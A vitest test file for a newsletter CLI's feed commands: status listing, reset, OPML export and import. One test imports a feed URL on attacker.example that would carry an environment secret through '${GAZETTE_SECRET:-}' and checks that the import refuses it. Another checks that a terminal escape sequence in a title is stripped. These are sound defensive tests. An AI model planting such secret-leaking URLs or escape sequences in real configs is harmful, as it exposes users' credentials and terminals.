import { mkdtempSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { parseOpml } from "../../src/ingest/parse/opml.js";
import { ROOT, runCli, withoutCreatedNotice } from "../helpers/cli.js";
import { type FeedServer, startFeedServer } from "../helpers/feed-server.js";

/** A config of one weekly list, with `middle` (its feeds and anything else) in between. */
function configYaml(name: string, middle: string): string {
  return `newsletter:
  name: ${name}
  baseUrl: https://news.example.com
  postalAddress: 1 Test Street
sender:
  from: Test <digest@news.example.com>
templates: ${path.join(ROOT, "templates")}
${middle}
lists:
  - id: weekly
    name: Weekly
`;
}

describe("gazette feeds", () => {
  let dir: string;
  let server: FeedServer;
  const cli = (args: string[]) => runCli(["--config", "gazette.yaml", ...args], { cwd: dir });
  /** `feeds import` of an OPML 2.0 file `name` whose body is `outlines`. */
  const importOpml = (name: string, outlines: string, ...flags: string[]) => {
    writeFileSync(path.join(dir, name), `<opml version="2.0"><body>\n${outlines}\n</body></opml>`);
    return cli(["feeds", "import", name, ...flags]);
  };

  beforeAll(async () => {
    server = await startFeedServer({
      "/ok.xml": {
        body: `<rss version="2.0"><channel><title>OK</title><link>https://ok.example/</link><item><title>Hello</title><link>https://ok.example/hello</link><pubDate>${new Date().toUTCString()}</pubDate><description>Hi there.</description></item></channel></rss>`,
        headers: { "cache-control": "max-age=3600" },
      },
      "/down.xml": { status: 500, body: "oops" },
      "/gone.xml": { status: 410, body: "gone" },
    });
    dir = mkdtempSync(path.join(tmpdir(), "gazette-feeds-"));
    writeFileSync(
      path.join(dir, "gazette.yaml"),
      `# My newsletter (this comment must survive an import)
${configYaml(
  "Feeds Test",
  `collect:
  timeout: 2s
  allowPrivate: ["127.0.0.1"]
feeds:
  - url: ${server.url("/ok.xml")}
    name: OK Blog
  - url: ${server.url("/down.xml")}
    name: Down Blog
  - url: ${server.url("/gone.xml")}
    name: Gone Blog
  - url: ${server.url("/later.xml")}
    name: Later Blog
    tags: [later]`,
)}`,
    );
  });
  afterAll(() => server.close());

  it("lists every feed before any fetch as never fetched", async () => {
    const result = await cli(["feeds"]);
    expect(withoutCreatedNotice(result.stderr)).toBe("");
    expect(result.code).toBe(0);
    const lines = result.stdout.trim().split("\n");
    expect(lines[0]).toMatch(/^NAME\s+STATUS\s+LAST FETCH\s+ITEMS\s+ERRORS\s+NEXT FETCH\s+URL$/);
    expect(lines.filter((line) => /never fetched/.test(line))).toHaveLength(4);
  });

  it("shows ok, failing ×N and retired after a collect, with next fetch times", async () => {
    const collect = await cli(["collect"]);
    expect(collect.stdout).toMatch(
      /Feeds: 1 fetched, 0 unchanged, 1 retired, 2 failed · 1 new article$/m,
    );
    expect(collect.stdout).toMatch(/Gone Blog: HTTP 410 Gone/);

    const list = await cli(["feeds"]);
    const row = (name: string) =>
      list.stdout.split("\n").find((line) => line.startsWith(name)) ?? "";
    expect(row("OK Blog")).toMatch(
      /OK Blog\s+ok\s+\d{4}-\d\d-\d\d \d\d:\d\dZ\s+1\s+0\s+\d{4}-\d\d-\d\d \d\d:\d\dZ\s+http/,
    );
    expect(row("Down Blog")).toMatch(/failing ×1\s+.*\s+0\s+1\s+\d{4}-/);
    expect(row("Gone Blog")).toMatch(/retired\s+.*\s+never\s+http/);
    expect(list.stdout).toMatch(/└ HTTP 500/);

    const again = await cli(["collect"]);
    expect(again.stdout).toMatch(/Feeds: 0 fetched, 0 unchanged, 3 deferred, 1 retired, 0 failed/);
    // The documented JSON form: named fields only — no raw row, no lease or fingerprint columns,
    // tags as an array (not a JSON string inside JSON).
    const json = JSON.parse((await cli(["feeds", "--json"])).stdout) as {
      version: number;
      feeds: Record<string, unknown>[];
    };
    expect(json.version).toBe(1);
    const later = json.feeds.find((feed) => feed.name === "Later Blog");
    expect(Object.keys(later ?? {}).sort()).toEqual(
      [
        "consecutiveErrors",
        "currentUrl",
        "items",
        "lastError",
        "lastFetchedAt",
        "lastStatus",
        "name",
        "nextFetchAt",
        "retiredAt",
        "status",
        "tags",
        "url",
      ].sort(),
    );
    expect(later).toMatchObject({ consecutiveErrors: 1, tags: ["later"], status: "failing ×1" });
    expect(json.feeds.find((feed) => feed.name === "Gone Blog")).toMatchObject({
      status: "retired",
      nextFetchAt: null,
    });
  });

  it("resets a retired feed so the next collect tries it again", async () => {
    const reset = await cli(["feeds", "reset", "Gone Blog"]);
    expect(reset.stdout).toMatch(/Gone Blog: will be fetched at the next collect/);
    const list = await cli(["feeds"]);
    expect(list.stdout.split("\n").find((line) => line.startsWith("Gone Blog"))).toMatch(/\sdue\s/);
    const unknown = await cli(["feeds", "reset", "Nope"]);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain(
      'gazette: no configured feed named or at "Nope" (see gazette feeds)',
    );
  });

  it("leaves local-file feeds out of an export, and says which", async () => {
    const local = mkdtempSync(path.join(tmpdir(), "gazette-feeds-local-"));
    writeFileSync(path.join(local, "local.xml"), '<rss version="2.0"><channel></channel></rss>');
    writeFileSync(
      path.join(local, "gazette.yaml"),
      configYaml(
        "Local Test",
        `feeds:
  - url: https://blog.example.com/feed.xml
    name: Web Blog
  - url: local.xml
    name: Local Notes`,
      ),
    );
    const exported = await runCli(["--config", "gazette.yaml", "feeds", "export"], { cwd: local });
    expect(exported.code).toBe(0);
    expect(parseOpml(exported.stdout).feeds.map((feed) => feed.name)).toEqual(["Web Blog"]);
    expect(exported.stdout).not.toContain("local.xml");
    expect(exported.stderr).toContain(
      "! 1 feed left out: local files, which another reader cannot fetch (Local Notes)",
    );
  });

  it("exports OPML and imports it back into the config, comments kept and known feeds skipped", async () => {
    const exported = await cli(["feeds", "export"]);
    expect(exported.code).toBe(0);
    const { feeds } = parseOpml(exported.stdout);
    expect(feeds.map((feed) => feed.name)).toEqual([
      "OK Blog",
      "Down Blog",
      "Gone Blog",
      "Later Blog",
    ]);
    expect(feeds.at(-1)?.tags).toEqual(["later"]);

    writeFileSync(
      path.join(dir, "more.opml"),
      exported.stdout.replace(
        "</body>",
        `<outline text="New &amp; Shiny" xmlUrl="https://new.example/feed" category="tools"/></body>`,
      ),
    );
    const dry = await cli(["feeds", "import", "more.opml", "--dry-run"]);
    expect(dry.stdout).toMatch(/\+ New & Shiny {2}https:\/\/new\.example\/feed {2}\[tools\]/);
    expect(dry.stdout).toMatch(/1 feed would be added, 4 already configured/);
    expect(readFileSync(path.join(dir, "gazette.yaml"), "utf8")).not.toContain("new.example");

    const real = await cli(["feeds", "import", "more.opml"]);
    expect(real.code).toBe(0);
    const config = readFileSync(path.join(dir, "gazette.yaml"), "utf8");
    expect(config).toContain("# My newsletter (this comment must survive an import)");
    expect(config).toContain("url: https://new.example/feed");
    expect(config).toContain("name: New & Shiny");
    expect((await cli(["feeds"])).stdout).toMatch(/New & Shiny\s+never fetched/);
  });

  it("reads feed: URLs as http(s), and names each outline it skips on stderr and counts it", async () => {
    const result = await importOpml(
      "exported.opml",
      `<outline text="Old Style" xmlUrl="feed://old-style.example/rss.xml"/>
<outline text="Wrapped" xmlUrl="feed:https://wrapped.example/atom.xml"/>
<outline text="My Notes" xmlUrl="file:///home/me/notes.xml"/>
<outline text="Relative&#x1b;[2J" xmlUrl="feeds/relative.xml"/>`,
      "--dry-run",
    );
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(/^\+ Old Style {2}http:\/\/old-style\.example\/rss\.xml$/m);
    expect(result.stdout).toMatch(/^\+ Wrapped {2}https:\/\/wrapped\.example\/atom\.xml$/m);
    expect(result.stdout).toMatch(/^2 feeds would be added, 2 skipped \(not http\(s\)\) \(/m);
    expect(withoutCreatedNotice(result.stderr).trim().split("\n")).toEqual([
      "! My Notes  file:///home/me/notes.xml: skipped: not an http(s) URL",
      // The escape sequence in the title never reaches the terminal.
      "! Relative[2J  feeds/relative.xml: skipped: not an http(s) URL",
    ]);
  });

  it("names the file that is not OPML, in one gazette: line", async () => {
    writeFileSync(path.join(dir, "people.csv"), "email,name\nann@example.com,Ann\n");
    const result = await cli(["feeds", "import", "people.csv"]);
    expect(result.code).toBe(2);
    const lines = withoutCreatedNotice(result.stderr).trim().split("\n");
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^gazette: people\.csv: not an OPML file \(/);
  });

  it("refuses imported feeds that would read the environment, and adds the others", async () => {
    const result = await importOpml(
      "blogroll.opml",
      `<outline text="Leaky" xmlUrl="https://attacker.example/feed.xml?k=\${GAZETTE_SECRET:-}"/>
<outline text="Plain" xmlUrl="https://plain.example/feed"/>`,
    );
    expect(result.code).toBe(0);
    expect(result.stdout).toMatch(
      /! https:\/\/attacker\.example\/feed\.xml\?k=\$\{GAZETTE_SECRET:-\}: refused: its url holds "\$\{"/,
    );
    expect(result.stdout).toMatch(/1 feed added, 1 refused/);
    const config = readFileSync(path.join(dir, "gazette.yaml"), "utf8");
    expect(config).toContain("url: https://plain.example/feed");
    expect(config).not.toContain("attacker.example");
  });
});
